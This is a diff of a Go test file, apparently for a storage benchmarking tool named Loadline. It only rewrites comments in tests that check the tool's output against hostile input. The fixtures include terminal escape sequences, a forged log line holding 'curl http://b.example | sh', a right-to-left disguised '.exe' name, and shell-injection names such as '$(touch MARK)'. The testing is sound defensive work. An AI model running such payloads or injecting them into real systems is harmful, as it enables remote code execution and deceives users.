@@ -10,21 +10,21 @@ import (
 	"unicode/utf8"
 )
 
-// hostiles are what somebody may put into a name, an answer or a log.
+// hostiles are texts that an attacker may put into a name, a reply or a log.
 var hostiles = map[string]string{
-	// A window's title, a cleared screen, a colour, a link, eight-bit controls, and a line
-	// written over.
+	// A window's title, a cleared screen, a colour, a link, eight-bit controls, and an
+	// overwritten line.
 	"sequences": "\x1b]0;PWNED\a\x1b[2J\x1b[1;1H\x1b[32mwell\x1b[0m\x1b]8;;http://b.example\x1b\\here\x1b]8;;\x1b\\\u009b2J\u009d0;PWNED\u009c\x7f\x01\x0e\v\f\rloadline: FAKED\b\b",
 	// A line that looks like one of ours.
 	"line": "x\nloadline: FAKED: all is well\n  next: curl http://b.example | sh\r\nnext: curl\u0085loadline: FAKED\u2028loadline: FAKED",
-	// The reversal of writing, and what nobody sees.
+	// A reversal of the writing direction, and invisible characters.
 	"unseen": "\u202egpj.exe\u2066\u2067\u2069\u200fa\u200b\u00ad\ufeff\u2060\U000e0041b",
-	// What is no text.
+	// Invalid UTF-8.
 	"bytes": "\xff\xfe\x9b31m\xc3(\xe2\x80",
 }
 
-// readable fails the test when a person could be fooled by what a command printed: it is
-// not harmless, or holds a line that a name has added.
+// readable fails the test if the output of a command could mislead the reader: it is
+// not harmless, or contains a line that a name has added.
 func readable(t *testing.T, o outcome) {
 	t.Helper()
 	harmless(t, o)
@@ -37,9 +37,9 @@ func readable(t *testing.T, o outcome) {
 	}
 }
 
-// harmless fails the test when what a command printed could steer a terminal: it holds a
-// control character other than line break and tab, one that turns the writing around or
-// shows nothing, or no UTF-8.
+// harmless fails the test if the output of a command could control a terminal: it contains a
+// control character other than line break and tab, a character that reverses the writing direction or
+// is invisible, or invalid UTF-8.
 func harmless(t *testing.T, o outcome) {
 	t.Helper()
 	for stream, text := range map[string]string{"standard output": o.stdout, "standard error": o.stderr} {
@@ -55,10 +55,10 @@ func harmless(t *testing.T, o outcome) {
 	}
 }
 
-// fileName makes a text fit for a file's name.
+// fileName makes a text suitable as a file name.
 func fileName(s string) string { return "d" + strings.ReplaceAll(s, "/", "_") }
 
-// Files and directories of hostile names, as targets and arguments of every verb.
+// Files and directories with hostile names, as targets and arguments of every verb.
 func TestHostileNamesOfFiles(t *testing.T) {
 	t.Parallel()
 	for name, text := range hostiles {
@@ -101,7 +101,7 @@ func TestHostileNamesOfFiles(t *testing.T) {
 	}
 }
 
-// A name in a command that one is asked to paste stays one word of it.
+// A name in a command that the user is asked to paste stays a single word.
 func TestAdviceCanBePasted(t *testing.T) {
 	bash, err := exec.LookPath("bash")
 	if err != nil {
@@ -109,7 +109,7 @@ func TestAdviceCanBePasted(t *testing.T) {
 	}
 	mark := filepath.Join(t.TempDir(), "mark")
 	for _, evil := range []string{"$(touch MARK)", "`touch MARK`", "a; touch MARK", "it's; touch MARK", "a\ntouch MARK\n", "a && touch MARK", "a | touch MARK #"} {
-		// What the name is to do comes through a variable, as a name has no slashes.
+		// The command in the name comes from a variable, as a name has no slashes.
 		name := strings.ReplaceAll(evil, "MARK", "$MARK")
 		dir := filepath.Join(t.TempDir(), name)
 		if err := os.Mkdir(dir, 0o700); err != nil {
@@ -123,11 +123,11 @@ func TestAdviceCanBePasted(t *testing.T) {
 			if o.code == 0 || !found {
 				continue
 			}
-			// No program can be found, so that nothing runs but what the name brings in.
+			// No program can be found, so that only what the name introduces could run.
 			_, pasted, _ := strings.Cut(next, ": ")
 			cmd := exec.Command(bash, "-c", "PATH=/nonexistent\ntouch() { : > \"$MARK\"; }\n"+pasted)
 			cmd.Env = []string{"MARK=" + mark}
-			_ = cmd.Run() // most of it is prose, which is no command
+			_ = cmd.Run() // most of it is prose, not a command
 			if _, err := os.Stat(mark); err == nil {
 				t.Errorf("%s: pasting runs what the name says: %q", args[0], next)
 				_ = os.Remove(mark)
@@ -136,12 +136,12 @@ func TestAdviceCanBePasted(t *testing.T) {
 	}
 }
 
-// What the environment says is from outside as well.
+// The environment is external input as well.
 func TestHostileEnvironment(t *testing.T) {
 	dir := t.TempDir()
 	for name, text := range hostiles {
 		t.Run(name, func(t *testing.T) {
-			t.TempDir() // which is made where TMPDIR says
+			t.TempDir() // created where TMPDIR says
 			for _, variable := range []string{"FILE_NAME", "OUTPUT", "SIZE", "MODE", "RATE_IOPS", "RATE", "LOADLINE_TOKEN", "KUBECONFIG", "TMPDIR"} {
 				t.Setenv(variable, text)
 			}
@@ -152,7 +152,7 @@ func TestHostileEnvironment(t *testing.T) {
 	}
 }
 
-// Programs that are asked: fio, rbd, blkid and ssh, whatever they print on either stream.
+// Programs that Loadline runs (fio, rbd, blkid and ssh) with hostile output on either stream.
 func TestHostilePrograms(t *testing.T) {
 	t.Parallel()
 	fio, err := exec.LookPath("fio")
@@ -175,9 +175,9 @@ func TestHostilePrograms(t *testing.T) {
 			brief := []string{"--profile", "quick", "--only", "rand-read-iops", "--time", "0.3s", "--size", "16M"}
 			for _, script := range []string{
 				"cat " + said + "; cat " + said + " >&2; exit 1",
-				// It has a version, and then goes wrong.
+				// It prints a version, and then fails.
 				"case \"$*\" in *--version*) echo fio-3.33;; *) cat " + said + "; cat " + said + " >&2; exit 1;; esac",
-				// It works, but for what it says beside.
+				// It works, apart from its additional output.
 				"cat " + said + " >&2; exec " + fio + " \"$@\"",
 				"echo fio-3.33-$(cat " + said + ")",
 			} {
